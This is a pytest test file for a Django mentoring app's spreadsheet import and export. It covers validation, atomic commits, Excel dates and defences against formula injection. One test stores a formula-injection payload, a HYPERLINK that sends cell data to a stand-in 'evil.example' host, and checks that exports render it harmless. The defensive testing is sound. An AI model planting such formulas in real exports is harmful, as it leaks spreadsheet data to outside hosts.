"""Import is checked row by row and all-or-nothing; exports cannot smuggle formulas into a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta
from typing import Any

import pytest
from allauth.account.models import EmailAddress
from django.core.exceptions import ValidationError
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from mentorfold.accounts.models import LearnerProfile, MentorProfile, Organization, User
from mentorfold.accounts.tests.factories import LanguageFactory, LearnerProfileFactory
from mentorfold.core import spreadsheets
from mentorfold.core.models import AuditEvent
from mentorfold.programs import exporting, importing
from mentorfold.programs.models import ImportBatch

pytestmark = pytest.mark.django_db

HEADER = ["email", "full_name", "stage", "date_of_birth", "school", "languages"]


def _csv(rows: list[list[Any]], *, bom: bool = False) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return (("\ufeff" if bom else "") + out.getvalue()).encode("utf-8")


def _learner_rows(n: int) -> list[list[Any]]:
    return [
        [f"learner{i}@example.org", f"Learner {i}", "undergraduate", "2004-05-17", "Rainier High", "Spanish"]
        for i in range(n)
    ]


def test_three_bad_rows_of_100_write_nothing_and_are_reported_exactly(coordinator: Any) -> None:
    LanguageFactory()
    rows = _learner_rows(100)
    rows[9][3] = "17/31/2009"  # spreadsheet row 11: impossible date
    rows[41][2] = "astronaut"  # row 43: unknown stage
    rows[76][0] = "not-an-email"  # row 78
    batch = importing.import_batch_create(
        actor=coordinator, kind="learners", name="learners.csv", data=_csv([HEADER, *rows])
    )
    assert sorted({e["row"] for e in batch.errors}) == [11, 43, 78]
    by_row = {e["row"]: e for e in batch.errors}
    assert by_row[11]["column"] == "date_of_birth" and "2009-04-17" in by_row[11]["message"]
    assert by_row[43]["column"] == "stage"
    assert by_row[78]["column"] == "email"
    assert len(batch.rows) == 97
    with pytest.raises(ValidationError, match="nothing was imported"):
        importing.import_batch_commit(batch=batch, actor=coordinator)
    assert not User.objects.filter(email__startswith="learner").exists()


def test_a_csv_with_bom_and_stray_whitespace_imports_everyone(
    coordinator: Any, mailoutbox: list[Any], django_capture_on_commit_callbacks: Any
) -> None:
    LanguageFactory()
    LanguageFactory(code="vi", name="Vietnamese")
    data = _csv(
        [
            [" Email ", "Full Name", "stage", "date_of_birth", "school", "languages"],
            [
                "  Ana.Lopez@Example.org ",
                " Ana   Lopez ",
                "High school",
                "2009-04-17",
                "Rainier High",
                "spanish; vi",
            ],
            ["bao@example.org", "Bao Nguyễn", "pre-med", "38000", "", ""],
        ],
        bom=True,
    )
    batch = importing.import_batch_create(actor=coordinator, kind="learners", name="people.csv", data=data)
    assert batch.errors == []
    with django_capture_on_commit_callbacks(execute=True):
        assert importing.import_batch_commit(batch=batch, actor=coordinator) == 2
    ana = LearnerProfile.objects.get(user__email="ana.lopez@example.org")
    assert ana.user.full_name == "Ana Lopez" and ana.stage == "high_school"
    assert ana.date_of_birth == date(2009, 4, 17) and ana.school.name == "Rainier High"
    assert sorted(ana.languages.values_list("code", flat=True)) == ["es", "vi"]
    assert ana.user.has_role("learner") and not ana.user.has_usable_password()
    bao = LearnerProfile.objects.get(user__email="bao@example.org")
    assert bao.date_of_birth == date(2004, 1, 14)  # Excel serial 38000
    assert sorted(m.to[0] for m in mailoutbox) == ["ana.lopez@example.org", "bao@example.org"]
    assert "/accounts/password/reset/key/" in mailoutbox[0].body
    assert AuditEvent.objects.filter(action="import.commit", actor=coordinator).exists()


def test_an_xlsx_with_excel_dates_imports(coordinator: Any) -> None:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["email", "full_name", "stage", "date_of_birth"])
    sheet.append(["c@example.org", "Chen Wei", "medical_student", datetime(2001, 2, 3)])
    sheet.append(["d@example.org", "Dana Roe", "resident", 35000])
    out = io.BytesIO()
    workbook.save(out)
    batch = importing.import_batch_create(
        actor=coordinator, kind="learners", name="x.xlsx", data=out.getvalue()
    )
    assert batch.errors == []
    assert [r["date_of_birth"] for r in batch.rows] == ["2001-02-03", "1995-10-28"]


def test_duplicates_by_email_are_reported_not_merged(coordinator: Any, learner: Any) -> None:
    data = _csv(
        [
            ["email", "full_name", "specialty"],
            ["new@example.org", "New Doc", "Pediatrics"],
            ["NEW@example.org", "Same Doc", "Pediatrics"],
            [learner.user.email, "Amina Again", "Surgery"],
        ]
    )
    batch = importing.import_batch_create(actor=coordinator, kind="mentors", name="m.csv", data=data)
    assert [(e["row"], e["column"]) for e in batch.errors] == [(3, "email"), (4, "email")]
    assert "also on row 2" in batch.errors[0]["message"]
    assert "already has an account" in batch.errors[1]["message"]


def test_missing_columns_are_named(coordinator: Any) -> None:
    batch = importing.import_batch_create(
        actor=coordinator,
        kind="mentors",
        name="m.csv",
        data=_csv([["email", "name"], ["a@example.org", "A"]]),
    )
    assert {(e["row"], e["column"]) for e in batch.errors} == {(1, "full_name"), (1, "specialty")}


def test_mentor_import_creates_onboarding_mentors(coordinator: Any) -> None:
    data = _csv(
        [
            ["email", "full_name", "specialty", "capacity", "organization"],
            ["m@example.org", "Dr M", "Surgery", "3", "Harbor Health"],
        ]
    )
    batch = importing.import_batch_create(actor=coordinator, kind="mentors", name="m.csv", data=data)
    importing.import_batch_commit(batch=batch, actor=coordinator)
    mentor = MentorProfile.objects.get(user__email="m@example.org")
    assert (mentor.capacity, mentor.status, mentor.organization.name) == (3, "onboarding", "Harbor Health")
    batch.refresh_from_db()
    assert batch.status == ImportBatch.Status.DONE and batch.created_count == 1
    with pytest.raises(ValidationError, match="already run"):
        importing.import_batch_commit(batch=batch, actor=coordinator)


def test_a_failure_during_commit_writes_nothing(coordinator: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    data = _csv([HEADER, *_learner_rows(5)])
    LanguageFactory()
    batch = importing.import_batch_create(actor=coordinator, kind="learners", name="l.csv", data=data)

    real_make_live = importing.make_live

    def boom(batch_id: int, prepared: Any) -> int:
        real_make_live(batch_id, prepared)  # the last step: everything else is written
        raise RuntimeError("disk full")

    monkeypatch.setattr(importing, "make_live", boom)
    with pytest.raises(RuntimeError):
        importing.import_batch_commit(batch=batch, actor=coordinator)
    assert not User.objects.filter(email__startswith="learner").exists()
    assert not LearnerProfile.objects.exists()
    assert not EmailAddress.objects.filter(email__startswith="learner").exists()
    assert not User.groups.through.objects.exclude(user__in=User.objects.all()).exists()
    assert not Organization.objects.filter(name="Rainier High").exists()
    batch.refresh_from_db()
    assert batch.status != ImportBatch.Status.DONE and batch.created_count == 0


def test_rejects_files_that_are_not_csv_or_xlsx(coordinator: Any) -> None:
    with pytest.raises(ValidationError, match=r"\.csv or \.xlsx"):
        importing.import_batch_create(actor=coordinator, kind="learners", name="x.pdf", data=b"%PDF-1.4")
    with pytest.raises(ValidationError, match="UTF-8"):
        importing.import_batch_create(
            actor=coordinator, kind="learners", name="x.csv", data="é".encode("latin-1")
        )


@given(st.dates(min_value=date(1900, 3, 1), max_value=date(2100, 1, 1)))
def test_excel_serials_round_trip(day: date) -> None:
    serial = (day - importing.EXCEL_EPOCH).days
    assert importing.parse_date(serial) == day
    assert importing.parse_date(str(serial)) == day
    assert importing.parse_date(day.isoformat()) == day


@given(st.text(max_size=40))
def test_neutralised_cells_never_start_a_formula(text: str) -> None:
    value = spreadsheets.neutralise_formula(text)
    assert not value.startswith(spreadsheets.FORMULA_PREFIXES)
    assert value in (text, "'" + text)


def test_hyperlink_in_a_name_is_exported_as_text() -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    LearnerProfileFactory(user__full_name=evil, user__email="evil@example.org")
    LearnerProfileFactory(user__full_name="@SUM(1+1)", user__email="at@example.org")
    rows = list(
        csv.reader(io.StringIO(exporting.write_csv(exporting.export_rows("learners")).decode("utf-8-sig")))
    )
    names = {r[0]: r[1] for r in rows[1:]}
    assert names["evil@example.org"] == "'" + evil
    assert names["at@example.org"] == "'@SUM(1+1)"
    sheet = load_workbook(io.BytesIO(exporting.write_xlsx(exporting.export_rows("learners")))).active
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    assert cells["evil@example.org"].data_type == "s"
    assert cells["evil@example.org"].value == "'" + evil


def test_dates_and_numbers_are_left_alone() -> None:
    assert spreadsheets.neutralise_formula(42) == 42
    assert spreadsheets.neutralise_formula("2026-11-02") == "2026-11-02"
    assert spreadsheets.neutralise_formula(-3) == -3


def test_parse_date_rejects_nonsense() -> None:
    for bad in ["31/31/2020", "yesterday", "", -5]:
        with pytest.raises(ValueError):
            importing.parse_date(bad)
    assert importing.parse_date(datetime(2020, 1, 2, 13, 0)) == date(2020, 1, 2)
    assert importing.parse_date("4/17/2009") == date(2009, 4, 17)
    assert importing.parse_date(date(2020, 1, 1) + timedelta(days=1)) == date(2020, 1, 2)
